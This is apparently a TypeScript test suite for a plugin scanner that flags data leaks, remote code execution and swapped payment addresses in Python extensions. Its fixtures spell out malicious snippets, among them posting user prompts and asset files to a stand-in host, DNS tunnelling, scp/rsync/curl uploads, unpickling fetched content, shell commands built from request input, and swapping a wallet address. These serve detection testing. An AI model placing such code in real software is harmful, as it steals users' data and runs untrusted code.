import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Rule } from '#apps/validation/check.js';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as swappedAddress } from './swapped-address.rule.js';

type Files = Record<string, string>;
const HOME = 'https://rows.scenes.example/in';
const events = (topic: string) => ({ events: [{ topic, entry: 'main.py', callable: 'go' }] });
const route = (path: string) => ({ routes: [{ path, entry: 'main.py', callable: 'go' }] });
const told = (rule: Rule, code: string | Files, original: Record<string, unknown>): string[] => {
  const files = typeof code === 'string' ? { 'main.py': code } : code;
  return findingsOf(rule, files, { dialect: 'comfyvn', entry_points: ['main.py'], original }).filter(({ severity }) => severity === 'high').map(({ message }) => message);
};
const leaks = (code: string | Files, original: Record<string, unknown>): boolean => told(dataLeak, code, original).some((each) => each.startsWith('what goes to a server that is named here'));
const runs = (code: string, original: Record<string, unknown> = events('on_startup')): boolean => findingsOf(remoteCode, { 'main.py': code }, { dialect: 'comfyvn', entry_points: ['main.py'], original }).some(({ severity }) => severity === 'high' || severity === 'critical');

test('bad: what people write goes to a server whose answer nobody wants', () => {
  for (const [topic, code] of [
    ['on_prompt', `import requests\ndef go(event):\n    requests.post("${HOME}", data=event["prompt"])\n    return event\n`],
    ['on_prompt', `import requests\nS = requests.Session()\ndef go(event):\n    S.put("${HOME}", data=event["prompt"])\n    return event\n`],
    ['on_dialogue', 'import http.client\ndef go(event):\n    c = http.client.HTTPSConnection("rows.scenes.example")\n    c.request("POST", "/in", event["text"])\n    c.getresponse().read()\n'],
    ['on_dialogue', 'import socket\ndef go(event):\n    s = socket.socket()\n    s.connect(("rows.scenes.example", 443))\n    s.sendall(event["text"].encode())\n'],
    ['on_dialogue', 'import smtplib\ndef go(event):\n    s = smtplib.SMTP("rows.scenes.example")\n    s.sendmail("a@b.example", "drop@b.example", event["text"])\n'],
    ['on_dialogue', 'import socket\ndef go(event):\n    socket.getaddrinfo(event["text"].encode().hex() + ".q.scenes.example", 80)\n'],
    ['on_dialogue', `import subprocess\ndef go(event):\n    subprocess.run(["curl", "-d", "@-", "${HOME}"], input=event["text"])\n`],
    ['on_dialogue', `import requests\nfrom concurrent.futures import ThreadPoolExecutor\nPOOL = ThreadPoolExecutor(1)\ndef go(event):\n    POOL.submit(requests.post, "${HOME}", json={"t": event["text"]})\n`],
    ['on_dialogue', `import requests\ndef go(event):\n    event["synced"] = requests.post("${HOME}", json={"t": event["text"]}).ok\n    return event\n`],
    ['on_prompt', `import requests\nfrom pathlib import Path\nLOG = Path(__file__).with_name("log.txt")\ndef go(event):\n    with LOG.open("a") as fh:\n        fh.write(event["prompt"])\n    requests.post("${HOME}", data=LOG.read_text())\n`],
  ] as const) assert.ok(leaks(code, events(topic)), code);
  assert.ok(leaks(`from comfyvn.api import hooks\nimport requests\ndef heard(event):\n    requests.post("${HOME}", data=event["prompt"])\nhooks.on("on_prompt", heard)\n`, {}));
});

test('good: who translates, checks or draws what people write wants the answer, and counts are none of it', () => {
  for (const [topic, code] of [
    ['on_dialogue', `import requests\ndef go(event):\n    event["text"] = requests.post("${HOME}", data=event["text"]).text\n    return event\n`],
    ['on_dialogue', `import requests\ndef ask(text):\n    return requests.post("${HOME}", data=text).content.decode()\ndef go(event):\n    return {**event, "more": ask(event["text"])}\n`],
    ['on_prompt', `import requests\ndef go(event):\n    if not requests.post("${HOME}", json=event["prompt"]).json()["fine"]:\n        raise ValueError\n    return event\n`],
    ['on_dialogue', `import requests\nfrom comfyvn.api import assets\ndef go(event):\n    assets.register(requests.post("${HOME}", data=event["text"]).content)\n`],
    ['on_dialogue', `import requests\ndef go(event):\n    requests.post("${HOME}", json={"words": len(event["text"].split())})\n`],
    ['on_dialogue', 'import os, requests\ndef go(event):\n    requests.post(os.environ["MINE"], data=event["text"])\n'],
    ['on_dialogue', 'import socket\ndef go(event):\n    s = socket.create_connection(("localhost", 9999))\n    s.sendall(event["text"].encode())\n'],
    ['on_prompt', 'import sqlite3\nDB = sqlite3.connect("memory.db")\ndef go(event):\n    DB.execute("insert into m values (?)", (event["prompt"],))\n'],
    ['on_render_done', `import requests\ndef go(event):\n    requests.post("${HOME}", json=event)\n`],
  ] as const) assert.ok(!leaks(code, events(topic)), code);
});

test('each new file of the host goes to a server, by its path, in other modules, threads and lists', () => {
  const api = 'from comfyvn.api import assets\n';
  for (const code of [
    `${api}import requests\ndef go(event):\n    with open(assets.get(event["id"])["path"], "rb") as fh:\n        requests.post("${HOME}", files={"f": fh})\n`,
    `${api}import requests\ndef go(event):\n    requests.post("${HOME}", data=assets.open(event["id"]).read())\n`,
    `${api}import requests, threading\ndef up(path):\n    requests.post("${HOME}", data=open(path, "rb").read())\ndef go(event):\n    threading.Thread(target=up, args=(assets.get(event["id"])["path"],)).start()\n`,
    `${api}import queue, requests\nQ = queue.Queue()\ndef work():\n    requests.post("${HOME}", data=open(Q.get(), "rb"))\ndef go(event):\n    Q.put(assets.get(event["id"])["path"])\n`,
    `${api}import subprocess\ndef go(event):\n    subprocess.Popen(["curl", "-T", assets.get(event["id"])["path"], "${HOME}"])\n`,
  ]) assert.ok(leaks(code, events('asset.added')), code);
  const cache = 'import http.client\nEDGE = "edge.scenes.example"\nclass Cache:\n    def put(self, key, origin):\n        with open(origin, "rb") as fh:\n            c = http.client.HTTPSConnection(EDGE)\n            c.request("PUT", f"/warm/{key}", fh.read())\n';
  assert.ok(leaks({ 'main.py': `${api}from cache import Cache\ncache = Cache()\ndef go(event):\n    asset = assets.get(event["id"])\n    cache.put(asset["id"], origin=asset.get("path"))\n`, 'cache.py': cache }, events('asset.added')));
  assert.ok(!leaks(`${api}import requests\ndef go(event):\n    a = assets.get(event["id"])\n    with open(a["path"], "rb") as fh:\n        text = requests.post("${HOME}", data=fh.read()).json()["text"]\n    assets.update(a["id"], {"alt": text})\n`, events('asset.added')));
});

test('all that the host keeps goes to a server: without being asked, or by a path whose name says nothing of it', () => {
  const all = `from comfyvn.api import assets\nimport requests\ndef go(event):\n    for a in assets.list():\n        with open(a["path"], "rb") as fh:\n            requests.post("${HOME}", data=fh.read())\n`;
  assert.ok(leaks(all, events('on_startup')));
  assert.ok(leaks(all, route('/ping')));
  assert.ok(!leaks(all, route('/backup')));
  assert.ok(leaks(`from comfyvn.api import assets\nimport requests\ndef send(a):\n    requests.post("${HOME}", data=open(a["path"], "rb").read())\ndef go(event):\n    list(map(send, assets.list()))\n`, events('on_startup')));
  assert.ok(leaks(`from comfyvn.api import diagnostics\nimport requests\ndef go(event):\n    requests.post("${HOME}", json=diagnostics.logs())\n`, events('on_startup')));
  assert.ok(leaks(`from threading import Timer\nfrom comfyvn.api import assets\nimport requests\ndef later():\n    for a in assets.list():\n        requests.post("${HOME}", data=assets.open(a["id"]).read())\ndef go(event):\n    Timer(60, later).start()\n`, events('on_startup')));
});

test('bad: what a server answered becomes objects, a module or a program, also by way of a file', () => {
  for (const code of [
    `import pickle, requests\ndef go(event):\n    return pickle.loads(requests.get("${HOME}").content)\n`,
    `import pickle, urllib.request\nfrom pathlib import Path\nCACHE = Path(__file__).with_name("w.bin")\ndef load():\n    CACHE.write_bytes(urllib.request.urlopen("${HOME}").read())\ndef go(event):\n    load()\n    return pickle.loads(CACHE.read_bytes())\n`,
    `import pickle, requests\ndef go(event):\n    with open("w.bin", "wb") as fh:\n        fh.write(requests.get("${HOME}").content)\n    with open("w.bin", "rb") as fh:\n        return pickle.load(fh)\n`,
    `import pickle, urllib.request\ndef go(event):\n    urllib.request.urlretrieve("${HOME}", "w.bin")\n    return pickle.load(open("w.bin", "rb"))\n`,
    `import runpy, urllib.request\ndef go(event):\n    urllib.request.urlretrieve("${HOME}", "x.txt")\n    runpy.run_path("x.txt")\n`,
    `import yaml, requests\ndef go(event):\n    return yaml.unsafe_load(requests.get("${HOME}").text)\n`,
    'import pandas\ndef go(event):\n    return pandas.read_pickle("https://rows.scenes.example/p.pkl")\n',
  ]) assert.ok(runs(code), code);
  for (const code of [
    'import pickle\nfrom pathlib import Path\nCACHE = Path(__file__).with_name("m.bin")\ndef go(event):\n    memory = pickle.loads(CACHE.read_bytes())\n    CACHE.write_bytes(pickle.dumps(memory))\n',
    `import pickle, requests\nfrom pathlib import Path\nCACHE = Path(__file__).with_name("m.bin")\ndef go(event):\n    if CACHE.exists():\n        return pickle.loads(CACHE.read_bytes())\n    CACHE.write_bytes(pickle.dumps(requests.get("${HOME}").json()))\n`,
    `import json, urllib.request\ndef go(event):\n    urllib.request.urlretrieve("${HOME}", "w.json")\n    return json.load(open("w.json"))\n`,
    `import yaml, requests\ndef go(event):\n    return yaml.safe_load(requests.get("${HOME}").text)\n`,
    'import joblib\nMODEL = joblib.load("model.joblib")\ndef go(event):\n    return MODEL\n',
  ]) assert.ok(!runs(code), code);
});

test('what is asked by a path is run as a command or as code, or only handed to a program', () => {
  for (const code of [
    'import os\ndef go(request):\n    return os.popen(request["query"]["c"]).read()\n',
    'import subprocess\ndef go(request):\n    subprocess.run(request["json"]["cmd"], shell=True)\n',
    'import base64, pickle\ndef go(request):\n    return pickle.loads(base64.b64decode(request["json"]["state"]))\n',
    'from pathlib import Path\ndef go(request):\n    Path(__file__).with_name("more.py").write_text(request["json"]["text"])\n',
  ]) assert.ok(runs(code, route('/x')), code);
  for (const code of [
    'import subprocess\ndef go(request):\n    subprocess.run(["ffmpeg", "-i", request["json"]["file"], "out.webm"])\n',
    'from pathlib import Path\ndef go(request):\n    Path("notes.md").write_text(request["json"]["text"])\n',
  ]) assert.ok(!runs(code, route('/x')), code);
});

test('an account of the package in the place of one in what people write', () => {
  const swap = (by: string): string => `import re\ndef go(event):\n    event["text"] = re.sub(r"0x[0-9a-fA-F]{40}", ${by}, event["text"])\n    return event\n`;
  assert.equal(told(swappedAddress, swap('"0x1111111111111111111111111111111111111111"'), events('on_dialogue')).length, 1);
  assert.deepEqual(told(swappedAddress, swap('"(address)"'), events('on_dialogue')), []);
});

test('templates, tables, models and libraries that a server answered, which say what is called', () => {
  const got = `requests.get("${HOME}")`;
  const saved = (name: string): string => `    urllib.request.urlretrieve("${HOME}", "${name}")\n`;
  const all = 'import ctypes, io, jinja2, numpy, requests, shelve, torch, urllib.request\nfrom jinja2.sandbox import SandboxedEnvironment\nfrom mako.template import Template\ndef go(event):\n';
  for (const code of [
    `${saved('m.pt')}    return torch.load("m.pt", weights_only=False)\n`,
    `    return numpy.load(io.BytesIO(${got}.content), allow_pickle=True)\n`,
    `${saved('cache.db')}    return dict(shelve.open("cache"))\n`,
    `    return jinja2.Template(${got}.text).render()\n`,
    `    return jinja2.Environment().from_string(${got}.text).render()\n`,
    `    return Template(${got}.text).render()\n`,
    `${saved('ops.so')}    ctypes.CDLL("./ops.so")\n`,
  ]) assert.ok(runs(all + code), code);
  for (const code of [
    `${saved('m.pt')}    return torch.load("m.pt", weights_only=True)\n`,
    `${saved('m.pt')}    return torch.load("m.pt", map_location="cpu")\n`,
    `    return numpy.load(io.BytesIO(${got}.content), allow_pickle=False)\n`,
    '    with shelve.open("mine") as s:\n        s["n"] = s.get("n", 0) + 1\n',
    `    return jinja2.Template("<h1>{{ t }}</h1>").render(t=${got}.json()["t"])\n`,
    `    return SandboxedEnvironment().from_string(${got}.text).render()\n`,
    '    return ctypes.CDLL("libm.so.6").cos(1)\n',
  ]) assert.ok(!runs(all + code), code);
});

test('files go by a shell, in archives and to stores elsewhere', () => {
  const asset = 'import os, subprocess\nfrom comfyvn.api import assets\ndef go(event):\n    path = assets.get(event["id"])["path"]\n';
  for (const line of [
    'os.system("scp -q " + path + " drop@rows.scenes.example:in/")',
    'subprocess.run(f"rsync -a {path} drop@rows.scenes.example:/in", shell=True)',
    'os.system("rsync %s drop@rows.scenes.example:in/" % path)',
    `os.system(f"curl -s -T '{path}' ${HOME}")`,
    'subprocess.run(["scp", "-q", path, "drop@rows.scenes.example:in/"])',
  ]) assert.ok(leaks(`${asset}    ${line}\n`, events('asset_registered')), line);
  for (const line of ['os.system("rsync -a " + path + " " + os.environ["TARGET"])', 'os.system("rsync -a " + path + " me@localhost:in/")', 'os.system("cwebp " + path + " -o x@rows.scenes.example")']) assert.ok(!leaks(`${asset}    ${line}\n`, events('asset_registered')), line);
  for (const [open, add] of [['zipfile.ZipFile("b", "w")', 'write'], ['tarfile.open("b", "w:gz")', 'add']] as const) assert.ok(leaks(`import requests, tarfile, zipfile\nfrom comfyvn.api import assets\ndef go(event):\n    with ${open} as z:\n        for a in assets.list():\n            z.${add}(a["path"])\n    requests.put("${HOME}", data=open("b", "rb"))\n`, events('on_startup')), open);
  for (const code of [
    'import redis\nR = redis.Redis(host="rows.scenes.example")\ndef go(event):\n    R.rpush("p", event["prompt"])\n',
    'from pymongo import MongoClient\nC = MongoClient("mongodb://drop:x@rows.scenes.example/in")\ndef go(event):\n    C.db.prompts.insert_one({"p": event["prompt"]})\n',
  ]) assert.ok(leaks(code, events('on_prompt')), code);
  assert.ok(!leaks('import redis\nR = redis.Redis(host="localhost")\ndef go(event):\n    R.rpush("p", event["prompt"])\n', events('on_prompt')));
  assert.ok(leaks('import boto3\nfrom comfyvn.api import assets\nS = boto3.client("s3", endpoint_url="https://rows.scenes.example")\ndef go(event):\n    S.upload_file(assets.get(event["id"])["path"], "drop", "x")\n', events('asset_registered')));
});

test('what a decorator makes of a function is called, and new pictures are told by many names', () => {
  const decorated = (decorator: string, more: string): string => `import requests\nfrom comfyvn.api import assets, hooks\n@${decorator}\ndef heard(event):\n    ${more}\n`;
  assert.ok(leaks(decorated('hooks.on("on_prompt")', `requests.post("${HOME}", data=event["prompt"])`), {}));
  assert.ok(leaks(decorated('assets.on("asset_registered")', `requests.post("${HOME}", data=open(event["path"], "rb").read())`), {}));
  assert.ok(!leaks(decorated('hooks.on("on_prompt")', 'print(event["prompt"])'), {}));
  const sends = `import requests\ndef go(event):\n    requests.post("${HOME}", data=open(event["path"], "rb").read())\n`;
  for (const topic of ['asset_registered', 'on_render_done', 'image_saved']) assert.ok(leaks(sends, events(topic)), topic);
  assert.ok(!leaks(sends, events('on_settings')));
});

test('addresses with the tag of a partner in what people read', () => {
  const changes = (line: string): string => `import re\ndef go(event):\n    ${line}\n    return event\n`;
  for (const line of ['event["text"] += " More at https://vn.shop.example/?ref=77"', 'event["text"] = event["text"].replace("shop.com/dp/", "shop.com/dp/?tag=scene-20&d=")', 'event["lines"].append({"text": "https://vn.shop.example/?partner=77"})', 'event["text"] = re.sub(r"https://shop\\.com/(\\S+)", r"https://shop.com/\\1?aff=scenes-7", event["text"])']) assert.equal(told(swappedAddress, changes(line), events('on_dialogue')).length, 1, line);
  for (const line of ['event["lines"].append({"text": "THE END"})', 'event["text"] += " https://wiki.scenes.example/?page=2"', 'event["text"] = event["text"].replace("[1]", "(see notes)")']) assert.deepEqual(told(swappedAddress, changes(line), events('on_dialogue')), [], line);
});
